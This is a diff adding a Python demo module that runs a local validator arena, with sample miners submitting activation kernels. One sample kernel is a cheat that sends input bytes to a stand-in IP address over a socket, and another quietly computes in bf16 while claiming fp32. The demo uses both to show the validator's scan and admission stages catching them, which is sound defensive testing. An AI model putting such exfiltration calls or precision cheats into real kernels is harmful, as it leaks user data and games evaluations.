@@ -1,0 +1,306 @@
+"""The whole arena on one CPU machine, for `hotfloat demo`: real wallets, the stand-in chain, an HTTPS origin on
+loopback, the three services on Unix sockets and the validator pipeline with its chain cycle.
+
+It lives beside the CLI (not in the library) because it starts the gRPC services; every step is the production code
+path with demo-sized settings, and each setting that differs from a validator's is printed where it applies.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import os
+import secrets
+import ssl
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from ..authoring.template import bundle_files
+from ..bundle import bundle_from_files, pack
+from ..ledger import NEXT, State
+
+NETUID = 7
+WEIGHTS_EVERY = 20
+Report = Callable[[str], None]
+
+BROKEN = """\
+\"\"\"Forgets the up projection: returns silu(gate) instead of silu(gate) * up.\"\"\"
+
+import torch
+
+
+def silu_and_mul(x, out):
+    d = out.shape[-1]
+    out.copy_(torch.nn.functional.silu(x[:, :d].float()))
+"""
+DOWNGRADE = """\
+\"\"\"Cheat: computes in bf16 whatever dtype was asked for (twice as fast on a GPU, wrong in fp32).\"\"\"
+
+import torch
+
+
+def silu_and_mul(x, out):
+    d = out.shape[-1]
+    xb = x.to(torch.bfloat16)
+    out.copy_(torch.nn.functional.silu(xb[:, :d]) * xb[:, d:])
+"""
+EXFILTRATE = """\
+\"\"\"Cheat: phones home with whatever it can read, then does the honest work.\"\"\"
+
+import socket
+
+import torch
+
+
+def silu_and_mul(x, out):
+    socket.create_connection(("203.0.113.7", 443), timeout=1).sendall(x.numpy().tobytes()[:64])
+    d = out.shape[-1]
+    out.copy_(torch.nn.functional.silu(x[:, :d].float()) * x[:, d:].float())
+"""
+
+
+@dataclass(frozen=True)
+class Miner:
+    """One demo miner: what it commits, and where the validator is expected to stop it (None: it is scored)."""
+
+    name: str
+    role: str
+    kernel: str | None
+    """Kernel source replacing the template's (None: the template from `hotfloat new` as written)."""
+    expected_stage: str | None
+    """The stage expected to FAIL it, or None when it should pass admission and reach qualification."""
+
+
+MINERS = (
+    Miner("alice", "honest: `hotfloat new --slot activation.silu_and_mul`", None, None),
+    Miner("bob", "broken: forgets the up projection", BROKEN, "admit"),
+    Miner("carol", "cheating: bf16 math passed off as fp32", DOWNGRADE, "admit"),
+    Miner("dave", "cheating: sends inputs over the network", EXFILTRATE, "scan"),
+)
+
+
+@dataclass
+class Row:
+    """What the validator made of one miner's commitment, stage by stage."""
+
+    miner: str
+    uid: int
+    role: str
+    identity: str = ""
+    stages: dict[str, str] = field(default_factory=dict)
+    state: str = "not taken in"
+    reason: str = ""
+    score: float | None = None
+    crown: str = ""
+    weight: float = 0.0
+    expected: str = ""
+    as_expected: bool = False
+
+
+@dataclass
+class Outcome:
+    """The summary rows plus what the run chose, for the table and the exit code."""
+
+    rows: list[Row]
+    weights: dict[int, int]
+    settings: list[str]
+    seconds: float = 0.0
+
+
+def bundle_of(miner: Miner) -> tuple[str, bytes]:
+    """The miner's identity and deterministic archive: the template, with the miner's kernel swapped in."""
+    files = {k: v.encode() for k, v in bundle_files("activation.silu_and_mul", f"{miner.name}-silu").items()}
+    if miner.kernel is not None:
+        files["kernels/silu_and_mul.py"] = miner.kernel.encode()
+    bundle = bundle_from_files(files)
+    return bundle.identity, pack(bundle)
+
+
+class Origin:
+    """A loopback HTTPS server with a throwaway CA: where miners publish archives, as a real origin would."""
+
+    def __init__(self, root: Path):
+        import trustme
+
+        ca = trustme.CA()
+        self.cafile = str(root / "origin-ca.pem")
+        ca.cert_pem.write_to_path(self.cafile)
+        self.routes: dict[str, bytes] = {}
+        routes = self.routes
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *args) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                body = routes.get(self.path)
+                self.send_response(200 if body is not None else 404)
+                self.send_header("Content-Length", str(len(body or b"")))
+                self.end_headers()
+                self.wfile.write(body or b"")
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ca.issue_cert("127.0.0.1").configure_cert(ctx)
+        self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def serve(self, path: str, data: bytes) -> str:
+        self.routes[path] = data
+        return f"https://127.0.0.1:{self.server.server_address[1]}{path}"
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def services_config(handicap: int):
+    """Demo-sized service settings, each printed by `settings` so nobody mistakes them for a validator's."""
+    from hotfloat_services.serve import ServiceConfig
+
+    from ..qualify import RuleConfig
+
+    return ServiceConfig(
+        verify_max_shapes=2, verify_dtypes=("fp32", "bf16"),
+        qualify_rule=RuleConfig(logprob_tol=1e-3, drift_bound=5.0, look_rounds=3, max_looks=2),
+        qualify_extra_passes=(("B", handicap),) if handicap else ())
+
+
+def settings(handicap: int) -> list[str]:
+    return [
+        "admission verifies 2 shapes per dtype in fp32 and bf16 (a validator verifies every shape and dtype)",
+        "qualification: the tiny CPU engine, at most 6 rounds of B C B' (a look after 3); the drift bound is loose for a shared CPU",
+        (f"the baseline engine runs {handicap} extra stock activation passes (the calibration knob): nothing beats "
+         "stock torch on a CPU, so without it the honest miner cannot show a speed-up here; `--handicap 0` removes it"
+         if handicap else "no handicap: the honest kernel is as fast as stock, so expect NO_DECISION or FAIL"),
+    ]
+
+
+@contextlib.contextmanager
+def _sdk_home(root: Path) -> Iterator[None]:
+    """Keeps the bittensor SDK's config and caches inside the demo's folder, not the user's home."""
+    saved = {k: os.environ.get(k) for k in ("BTCLI_TOKEN_SYMBOLS_CACHE", "BTCLI_CONFIG")}
+    os.environ["BTCLI_TOKEN_SYMBOLS_CACHE"] = str(root / "bt" / "symbols.json")
+    os.environ["BTCLI_CONFIG"] = str(root / "bt" / "config.json")
+    try:
+        yield
+    finally:
+        for k, v in saved.items():
+            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)
+
+
+def run_arena(root: Path, handicap: int, report: Report) -> Outcome:
+    """Miners commit, the validator takes the commitments in, scans, builds, verifies, qualifies, settles, crowns
+    and sets weights; returns one row per miner."""
+    import time
+
+    import bittensor as bt
+    from hotfloat_services.serve import start
+    from hotfloat_services.validator.clients import StageClients
+    from hotfloat_services.validator.pipeline import Pipeline
+
+    from ..chain.client import Chain
+    from ..chain.cycle import ChainCycle
+    from ..chain.fetch import FetchPolicy
+    from ..chain.miner import commitment
+    from ..chain.standin import LocalSubstrate
+    from ..chain.tables import open_ledger
+    from ..score.standings import crowns, scores
+
+    started = time.monotonic()
+    with contextlib.ExitStack() as stack:
+        stack.enter_context(_sdk_home(root))
+        wallets = {}
+        for name in ("validator", *(m.name for m in MINERS)):
+            w = bt.Wallet(name, "default", path=str(root / "wallets"))
+            w.create_new_hotkey(use_password=False, suppress=True, overwrite=True)
+            wallets[name] = w
+        hotkeys = {name: w.hotkey.ss58_address for name, w in wallets.items()}
+        chain_path = root / "chain.json"
+        LocalSubstrate.create(chain_path, NETUID, [(hotkeys[n], hotkeys[n], n == "validator") for n in hotkeys],
+                              max_fields=9)
+        network = f"standin:{chain_path}"
+        report(f"chain: stand-in subnet {NETUID} at {chain_path}; uid 0 validator, uids 1-{len(MINERS)} "
+               f"{', '.join(m.name for m in MINERS)}")
+        origin = Origin(root)
+        stack.callback(origin.close)
+        chain = Chain(network)
+        stack.callback(chain.close)
+
+        rows = {}
+        for uid, m in enumerate(MINERS, 1):
+            identity, archive = bundle_of(m)
+            _, raw = commitment(identity, origin.serve(f"/{m.name}.tar.gz", archive))
+            chain.commit(NETUID, raw, wallets[m.name])
+            rows[hotkeys[m.name]] = Row(m.name, uid, m.role, identity=identity,
+                                        expected=f"FAIL at {m.expected_stage}" if m.expected_stage else "scored")
+            report(f"miner {m.name} (uid {uid}, {m.role}): committed {identity[:16]} with its archive's https URL")
+        LocalSubstrate(chain_path).advance(3)  # past the finality lag, so intake sees every commitment
+
+        token = secrets.token_urlsafe(32)
+        config = services_config(handicap)
+        targets = {}
+        for name in ("compiler", "admission", "qualification"):
+            running = start(name, str(root / f"{name}.sock"), token=token, config=config)
+            stack.callback(running.stop, 0)
+            targets[name] = running.target
+        report(f"services: compiler, admission and qualification on Unix sockets in {root}")
+        for line in settings(handicap):
+            report(f"  demo setting: {line}")
+
+        led = open_ledger(str(root / "validator.db"))
+        stack.callback(led.close)
+        clients = StageClients(targets["compiler"], targets["admission"], targets["qualification"], token=token)
+        stack.callback(clients.close)
+        cycle = ChainCycle(chain, led, NETUID, wallets["validator"], weights_every=WEIGHTS_EVERY,
+                           policy=FetchPolicy(cafile=origin.cafile, allow_private=True), report=report)
+        cycle.check()
+        names = {}
+
+        def event(sid: int, stage: str, message: str) -> None:
+            if sid not in names:
+                names[sid] = rows.get(led.get(sid).submitter, Row("?", 0, "")).miner
+            report(f"validator: #{sid} {names[sid]} {stage}: {message}")
+
+        Pipeline(led, clients, through=State.SCORED, workers=2, max_attempts=2, on_event=event).run(drain=True,
+                                                                                                     cycle=cycle)
+        LocalSubstrate(chain_path).advance(WEIGHTS_EVERY)  # a fresh window of blocks: the settled crowns publish now
+        cycle()
+        weights, _ = chain.weights_row(NETUID, 0)
+
+        kept = {led.get(sid).identity: score for sid, (_, score) in scores(led).items()}
+        held = {}
+        for crown in crowns(led).values():
+            held.update({crown.winner: "winner", crown.runner_up: "runner-up"})
+        total = sum(weights.values()) or 1
+        for sub in led.submissions():
+            row = rows[sub.submitter]
+            row.state, row.reason, row.score = sub.state.value, sub.reason, kept.get(sub.identity)
+            row.crown = held.get(sub.identity) or ""
+            for t in led.transitions(sub.id):
+                if t.from_state is not None:
+                    stage = NEXT[t.from_state][0]
+                    forward = (t.evidence or {}).get("status") or "PASS"  # build of python-only ops is N/A
+                    row.stages[stage] = {State.FAILED: "FAIL", State.NO_DECISION: "NO_DECISION"}.get(t.to_state, forward)
+        for row in rows.values():
+            row.weight = weights.get(row.uid, 0) / total
+            row.as_expected = _as_expected(row, next(m for m in MINERS if m.name == row.miner), handicap)
+    return Outcome(rows=list(rows.values()), weights=weights, settings=settings(handicap),
+                   seconds=time.monotonic() - started)
+
+
+def _as_expected(row: Row, miner: Miner, handicap: int) -> bool:
+    """A stopped miner must be stopped at its stage; the honest one must pass admission, then be scored, or end
+    NO_DECISION at qualification (CPU noise), or (without the handicap) FAIL there on speed."""
+    if miner.expected_stage is not None:
+        return row.stages.get(miner.expected_stage) == "FAIL"
+    if any(row.stages.get(s) not in ("PASS", "N/A") for s in ("scan", "build", "admit")):
+        return False
+    qualified = (row.stages.get("qualify"), row.stages.get("score"))
+    allowed = {("PASS", "PASS"), ("NO_DECISION", None), ("PASS", "NO_DECISION")}
+    if not handicap:
+        allowed |= {("FAIL", None)}
+    return qualified in allowed
